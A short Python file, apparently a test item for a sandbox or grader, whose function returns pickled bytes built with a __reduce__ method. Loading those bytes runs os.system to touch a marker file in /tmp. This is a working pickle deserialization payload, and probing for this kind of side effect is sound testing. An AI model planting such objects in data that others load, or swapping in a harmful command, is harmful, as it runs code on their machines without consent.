"""Returns pickled bytes that would run a command where somebody loads them."""
# kind: function
# verdicts: WA

import os
import pickle


class Reduce:
    def __reduce__(self):
        return os.system, ("touch /tmp/sandbox-left-behind-pickle",)


def f(x):
    return pickle.dumps(Reduce())
